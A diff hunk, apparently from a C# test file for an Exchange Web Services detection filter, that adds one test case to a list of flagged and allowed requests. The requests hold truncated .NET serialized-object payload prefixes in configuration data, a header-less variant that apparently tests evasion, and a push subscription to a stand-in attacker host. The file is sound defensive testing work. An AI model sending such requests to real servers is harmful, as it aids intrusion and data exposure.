@@ -272,6 +272,7 @@ internal static class PatchCases
         ! POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <s:Envelope><m:CreateUserConfiguration><t:UserConfigurationName/><t:BinaryData>AAEAAAD/////AQ</t:BinaryData>
         ! POST /EWS/Exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:UpdateUserConfiguration><m:UserConfiguration><t:BinaryData>\n  AAEAAAD/////AQ
         = POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:CreateUserConfiguration><t:BinaryData>PD94bWwgdmVy</t:BinaryData>
+        ! POST /ews/exchange.asmx ¦¦ <m:CreateUserConfiguration><t:BinaryData>AAEAAAD/////AQ</t:BinaryData>
         = POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:CreateAttachment><t:Content>AAEAAAD/////AQ</t:Content>
         ewsPushSubscription
         ! POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:Subscribe><m:PushSubscriptionRequest><t:URL>http://evil.test</t:URL>
